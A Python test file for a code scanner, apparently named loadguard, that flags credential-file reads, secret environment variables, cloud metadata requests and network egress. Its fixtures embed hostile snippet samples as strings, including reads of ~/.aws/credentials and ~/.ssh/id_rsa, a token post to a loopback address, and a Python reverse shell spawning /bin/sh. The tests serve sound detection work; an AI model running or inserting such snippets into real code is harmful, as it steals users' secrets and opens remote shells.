from loadguard.model import Severity
from native_helpers import high, rules, scan


def test_credential_paths_even_when_built():
    assert "LG-CRED-001" in rules("import os\nopen(os.path.expanduser('~/.aws/credentials'))\n")
    assert "LG-CRED-001" in rules(
        "import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'))\n"
    )
    assert "LG-CRED-001" in rules(
        "from pathlib import Path\n(Path.home() / '.netrc').read_text()\n"
    )
    assert "LG-CRED-001" in rules("p = '~/.cache/hugging' + 'face/token'\nopen(p)\n")


def test_secret_env_and_dump():
    assert "LG-CRED-002" in rules("import os\nt = os.environ['HF_TOKEN']\n")
    assert "LG-CRED-002" in rules("import os\nt = os.getenv('AWS_SECRET_ACCESS_KEY')\n")
    assert "LG-CRED-002" not in rules("import os\nt = os.getenv('CUDA_VISIBLE_DEVICES')\n")
    assert "LG-CRED-003" in rules("import os, json\njson.dumps(os.environ)\n")
    assert "LG-CRED-003" in rules("import os\nfor k, v in os.environ.items():\n    print(k)\n")


def test_exfiltration_shape():
    source = """
    import os, requests
    def report():
        token = os.environ.get("HF_TOKEN")
        requests.post("http://127.0.0.1:9/c", data=token)
    """
    found = rules(source)
    assert {"LG-CRED-002", "LG-NET-001", "LG-CRED-004"} <= found


def test_metadata_endpoint_and_socket_egress():
    assert "LG-NET-003" in rules(
        "import requests\nrequests.get('http://169.254.169.254/latest/')\n"
    )
    source = """
    import socket
    s = socket.socket()
    s.connect(("127.0.0.1", 9))
    """
    assert "LG-NET-001" in rules(source)


def test_reverse_shell_shape():
    source = """
    import os, socket, pty
    s = socket.socket()
    s.connect(("127.0.0.1", 9))
    os.dup2(s.fileno(), 0)
    pty.spawn("/bin/sh")
    """
    found = rules(source)
    assert "LG-NET-002" in found


def test_tokenizer_special_tokens_are_not_secrets():
    source = """
    class Tok:
        def __init__(self, pad_token="<pad>", eos_token="</s>", unk_token="<unk>",
                     sep_token="[SEP]", mask_token="[MASK]", password_hint=None):
            self.pad_token = pad_token
            token = "<|endoftext|>"
            tokens = [t for t in text.split()]
            raise ValueError(f"token {token} not found in ~/.cache")
    """
    assert rules(source) == set()
    assert not high(source)


def test_collect_in_one_function_ship_in_another_is_critical():
    source = """
    import os, urllib.request

    def _collect():
        with open(os.path.expanduser("~/.netrc")) as handle:
            return handle.read()

    def _ship(data):
        urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:9/", data=data))
    """
    found = [f for f in scan(source) if f.rule_id == "LG-CRED-004"]
    assert found and found[0].severity == Severity.CRITICAL


def test_hub_token_passed_to_hub_client_is_not_critical():
    source = """
    import os, requests

    def token():
        return os.environ.get("HF_TOKEN")

    def fetch(url):
        return requests.get(url)
    """
    assert all(f.severity < Severity.CRITICAL for f in scan(source))
